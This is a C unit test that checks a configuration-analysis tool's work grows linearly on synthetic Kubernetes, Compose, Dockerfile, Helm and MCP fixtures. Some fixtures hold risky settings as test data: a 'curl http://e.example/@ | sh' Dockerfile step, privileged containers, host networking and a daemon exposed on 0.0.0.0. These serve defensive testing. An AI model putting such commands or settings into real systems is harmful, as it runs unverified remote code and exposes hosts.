/* Twice the input takes about twice the work, whatever a tree is made of.
 *
 * Work is counted, not timed: comparisons of text and memory, and memory taken, by functions that the linker
 * puts in front of the real ones (see the Makefile). The second step of a doubling costs twice the first one
 * when work is linear, four times when it is a square.
 * SPDX-License-Identifier: MIT */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <strings.h>

#include <cmocka.h>

#include "tests/unit/git_help.h"
#include "tests/unit/grown.h"

#include "model/match.h"
#include "model/node.h"
#include "src/repo/digest.h"
#include "src/report/report.h"

static unsigned long work;

#define COUNTED(type, name, parameters, arguments)                                                \
	type __real_##name parameters;                                                            \
	type __wrap_##name parameters;                                                            \
	type __wrap_##name parameters                                                             \
	{                                                                                         \
		work++;                                                                           \
		return __real_##name arguments;                                                   \
	}

COUNTED(int, strcmp, (const char *a, const char *b), (a, b))
COUNTED(int, strncmp, (const char *a, const char *b, size_t n), (a, b, n))
COUNTED(int, strcasecmp, (const char *a, const char *b), (a, b))
COUNTED(int, strncasecmp, (const char *a, const char *b, size_t n), (a, b, n))
COUNTED(size_t, strlen, (const char *text), (text))
COUNTED(char *, strstr, (const char *text, const char *part), (text, part))
COUNTED(bool, node_is, (const struct node *n, const char *text), (n, text))
COUNTED(const struct node *, node_resolve, (const struct node *n), (n))
COUNTED(const struct node_item *, node_find, (const struct node *n, const char *key), (n, key))
COUNTED(const char *, fact_attribute, (const struct fact *f, const char *name), (f, name))

void *__real_arena_alloc(struct arena *a, size_t size);
void *__wrap_arena_alloc(struct arena *a, size_t size);
void *__wrap_arena_alloc(struct arena *a, size_t size)
{
	work += 1 + size / 64;
	return __real_arena_alloc(a, size);
}

#define PODS(labels)                                                                              \
	{ "pods.yaml", "",                                                                        \
	  "apiVersion: v1\nkind: Pod\nmetadata: {name: p@, namespace: n, labels: {" labels "}}\n"   \
	  "spec: {serviceAccountName: s@, containers: [{name: c, image: x}]}\n---\n", "" }
#define RBAC "rbac.authorization.k8s.io"
#define POLICY(selector)                                                                          \
	{ "policies.yaml", "",                                                                    \
	  "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\n"                                 \
	  "metadata: {name: np@, namespace: n}\nspec: {podSelector: " selector "}\n---\n", "" }

static const struct shape {
	const char *name;
	struct part parts[3];
	size_t first; /* repetitions of the smallest tree; 0: 100 */
	bool whole;   /* judging and reporting are measured too */
} shapes[] = {
	{ "pods and policies of their own", { PODS("app: a@"), POLICY("{matchLabels: {app: a@}}") }, 0, false },
	{ "policies that select every pod", { PODS("app: a"), POLICY("{}") }, 70, true },
	{ "policies that no pod fits", { PODS("app: a"), POLICY("{matchLabels: {app: a, b: c}}") }, 0, false },
	{ "bindings of a group",
	  { PODS("app: a"),
	    { "rbac.yaml", "apiVersion: " RBAC "/v1\nkind: Role\nmetadata: {name: r, namespace: n}\n"
	      "rules: [{resources: [secrets], verbs: [get]}]\n---\n",
	      "apiVersion: " RBAC "/v1\nkind: RoleBinding\nmetadata: {name: b@, namespace: n}\n"
	      "roleRef: {kind: Role, name: r}\n"
	      "subjects: [{kind: Group, name: 'system:serviceaccounts'}]\n---\n", "" } }, 100, false },
	{ "bindings of their own",
	  { PODS("app: a"),
	    { "rbac.yaml", "",
	      "apiVersion: " RBAC "/v1\nkind: Role\nmetadata: {name: r@, namespace: n}\n"
	      "rules: [{resources: [secrets], verbs: [get]}]\n---\n"
	      "apiVersion: " RBAC "/v1\nkind: RoleBinding\nmetadata: {name: b@, namespace: n}\n"
	      "roleRef: {kind: Role, name: r@}\nsubjects: [{kind: ServiceAccount, name: s@}]\n---\n",
	      "" } }, 0, false },
	{ "subjects of one binding",
	  { PODS("app: a"),
	    { "rbac.yaml", "apiVersion: " RBAC "/v1\nkind: RoleBinding\n"
	      "metadata: {name: b, namespace: n}\nroleRef: {kind: Role, name: r}\nsubjects:\n",
	      "- {kind: ServiceAccount, name: s@}\n", "" } }, 0, false },
	{ "services and routes",
	  { PODS("app: a@"),
	    { "services.yaml", "",
	      "apiVersion: v1\nkind: Service\nmetadata: {name: s@, namespace: n}\n"
	      "spec: {type: NodePort, selector: {app: a@}, ports: [{port: 80}]}\n---\n"
	      "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: i@, namespace: n}\n"
	      "spec: {rules: [{http: {paths: [{backend: {service: {name: s@}}}]}}]}\n---\n", "" } }, 0, false },
	{ "services that select every pod",
	  { PODS("app: a"),
	    { "services.yaml", "", "apiVersion: v1\nkind: Service\nmetadata: {name: s@, namespace: n}\n"
	      "spec: {type: NodePort, selector: {app: a}, ports: [{port: 80}]}\n---\n", "" } }, 100, false },
	{ "the same objects in many folders",
	  { { "d@/pod.yaml", "", "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\n"
	      "spec: {containers: [{name: c, image: x}]}\n", "" },
	    { "d@/policy.yaml", "", "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\n"
	      "metadata: {name: p, namespace: n}\nspec: {podSelector: {matchLabels: {a: b}}}\n", "" } }, 0, false },
	{ "namespaces and their policies",
	  { { "all.yaml", "", "apiVersion: v1\nkind: Namespace\nmetadata: {name: n@}\n---\n"
	      "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\n"
	      "metadata: {name: p, namespace: n@}\nspec: {podSelector: {}}\n---\n", "" } }, 0, false },
	{ "claims and volumes",
	  { { "all.yaml", "",
	      "apiVersion: v1\nkind: Pod\nmetadata: {name: p@}\nspec:\n"
	      "  volumes: [{name: v, persistentVolumeClaim: {claimName: c@}}]\n"
	      "  containers: [{name: c, image: x, volumeMounts: [{name: v, mountPath: /m}]}]\n---\n"
	      "apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: c@}\n"
	      "spec: {volumeName: pv@}\n---\n"
	      "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: pv@}\n"
	      "spec: {hostPath: {path: /x}}\n---\n", "" } }, 0, false },
	{ "exported pods and their manifests",
	  { { "live.yaml", "apiVersion: v1\nkind: List\nitems:\n",
	      "- {apiVersion: v1, kind: Pod, metadata: {name: r@-1-2, namespace: n, uid: u@,\n"
	      "   resourceVersion: '1', ownerReferences: [{kind: ReplicaSet, name: r@-1}]},\n"
	      "   spec: {containers: [{name: c, image: x}]}, status: {phase: Running}}\n", "" },
	    { "deploy.yaml", "", "apiVersion: apps/v1\nkind: Deployment\n"
	      "metadata: {name: r@, namespace: n}\n"
	      "spec: {template: {spec: {containers: [{name: c, image: x}]}}}\n---\n", "" } }, 0, false },
	{ "containers of one pod",
	  { { "pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n",
	      "  - {name: c@, image: x}\n", "" } }, 100, false },
	{ "unmounted volumes of one pod",
	  { { "pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n"
	      "  containers: [{name: c, image: x}]\n  volumes:\n",
	      "  - {name: v@, hostPath: {path: /h@}}\n", "" } }, 400, false },
	{ "pods that a kustomization lists and patches",
	  { { "pod@.yaml", "", "apiVersion: v1\nkind: Pod\nmetadata: {name: p@}\n"
	      "spec: {containers: [{name: c, image: x@}]}\n", "" },
	    { "kustomization.yaml", "resources:\n", "- pod@.yaml\n", "" } }, 0, false },
	{ "patches and images of a kustomization",
	  { { "pods.yaml", "", "apiVersion: v1\nkind: Pod\nmetadata: {name: p@}\n"
	      "spec: {containers: [{name: c, image: x@}]}\n---\n", "" },
	    { "kustomization.yaml", "resources: [pods.yaml]\npatches:\n",
	      "- target: {kind: Pod, name: p@}\n"
	      "  patch: '[{\"op\": \"add\", \"path\": \"/spec/hostNetwork\", \"value\": true}]'\n", "" } }, 0, false },
	{ "expressions of one template",
	  { { "c/Chart.yaml", "apiVersion: v2\nname: c\nversion: 1.0.0\n", "", "" },
	    { "c/templates/t.yaml", "", "apiVersion: v1\nkind: Pod\nmetadata: {name: p@}\nspec:\n"
	      "  containers:\n  - name: c\n    image: x\n"
	      "    {{- toYaml .Values.v@ | nindent 4 }}\n---\n", "" } }, 0, false },
	{ "services with a volume each and a neighbour",
	  { { "compose.yaml", "services:\n", "  s@: {image: x, network_mode: 'service:s0', "
	      "volumes: ['v@:/x']}\n", "" } }, 0, false },
	{ "services that share a volume",
	  { { "compose.yaml", "volumes: {v: {}}\nservices:\n", "  s@: {image: x, volumes: ['v:/x']}\n",
	      "" } }, 50, true },
	{ "mounts that a service takes from another one",
	  { { "compose.yaml", "services:\n  t: {image: x, volumes_from: [s]}\n  s:\n    image: x\n"
	      "    volumes:\n", "    - /h@:/m@\n", "" } }, 400, false },
	{ "mounts of one service",
	  { { "compose.yaml", "services:\n  s:\n    image: x\n    volumes:\n", "    - /h@:/m@\n", "" } }, 400, true },
	{ "exported containers and their services",
	  { { "compose.yaml", "services:\n", "  s@: {image: x@, container_name: c@}\n", "" },
	    { "inspect.json", "[", "{\"Id\":\"a@\",\"Name\":\"/c@\",\"Created\":\"2026-01-01T00:00:00Z\","
	      "\"State\":{\"Status\":\"running\"},\"Config\":{\"Image\":\"x@\"},\"HostConfig\":{}},\n",
	      "null]" } }, 0, false },
	{ "MCP servers in containers",
	  { { ".mcp.json", "{\"mcpServers\":{", "\"s@\":{\"command\":\"docker\",\"args\":[\"run\",\"-v\","
	      "\"/h@:/x\",\"x@\"]},\n", "\"z\":{\"command\":\"x\"}}}" } }, 0, false },
	{ "hosts of a daemon on one line",
	  { { "daemon.json", "{\"hosts\":[", "\"tcp://0.0.0.0:@\",", "\"tcp://0.0.0.0:1\"]}" } }, 50, true },
	{ "stages of a Dockerfile",
	  { { "Dockerfile", "FROM x AS s0\n", "FROM s0 AS t@\nRUN curl http://e.example/@ | sh\n", "" } }, 0, true },
	{ "variables of an image", { { "Dockerfile", "FROM x\nENV ", "A@=b ", "\n" } }, 400, true },
	{ "scripts that name each other",
	  { { "s@.sh", "#!/bin/sh\n", "./s0.sh\n./s1.sh\ndocker run --privileged x@\n", "" } }, 0, true },
};

static void report(const struct snapshot *s)
{
	struct review r = { 0 };
	struct match m;
	struct buf out = { 0 };

	match_build(&m, s, &r, digest_sha256);
	report_markdown(&(struct report){ .snapshot = s, .review = &r, .match = &m, .version = "0",
					  .catalogue = "c", .digest = digest_sha256,
					  .review_digest = "d" },
			&out);
	buf_free(&out);
	match_free(&m);
}

#define PARTS (sizeof((struct shape *)0)->parts / sizeof *((struct shape *)0)->parts)

/* What reading and joining take: judging and writing take so much more for each row that they would hide it. */
static unsigned long join_work(const struct shape *shape, size_t count)
{
	char root[] = "/tmp/test_growth.XXXXXX";
	struct load_options options = { .path = root };
	struct load_progress progress = { 0 };
	struct buf why = { 0 };
	struct loader *l;

	make_grown(root, shape->parts, PARTS, count);
	work = 0;
	l = load_start(&options, &why);
	while (l && progress.stage != LOAD_JUDGING && load_step(l, 0))
		load_progress(l, &progress);
	folder_remove(root);
	buf_free(&why);
	assert_non_null(l);
	load_free(l);
	return work;
}

static unsigned long whole_work(const struct shape *shape, size_t count)
{
	struct snapshot s = { 0 };

	work = 0;
	load_grown(shape->parts, PARTS, count, 0, &s);
	assert_true(s.rows.count > 0);
	report(&s);
	snapshot_free(&s);
	return work;
}

static bool is_linear(const struct shape *shape,
		      unsigned long (*measure)(const struct shape *, size_t))
{
	const size_t first = shape->first ? shape->first : 100;
	const unsigned long a = measure(shape, first), b = measure(shape, 2 * first),
			    c = measure(shape, 4 * first);

	if ((double)(c - b) < 2.2 * (double)(b - a))
		return true;
	print_error("%s: %lu, %lu, %lu\n", shape->name, a, b, c);
	return false;
}

static void reading_and_joining_twice_as_much_takes_twice_the_work(void **state)
{
	bool ok = true;

	(void)state;
	for (size_t i = 0; i < sizeof shapes / sizeof *shapes; i++)
		ok &= is_linear(&shapes[i], join_work);
	assert_true(ok);
}

static void judging_and_reporting_twice_as_much_takes_twice_the_work(void **state)
{
	bool ok = true;

	(void)state;
	for (size_t i = 0; i < sizeof shapes / sizeof *shapes; i++)
		ok &= !shapes[i].whole || is_linear(&shapes[i], whole_work);
	assert_true(ok);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(reading_and_joining_twice_as_much_takes_twice_the_work),
		cmocka_unit_test(judging_and_reporting_twice_as_much_takes_twice_the_work),
	};

	return cmocka_run_group_tests(tests, hold_git, release_git);
}
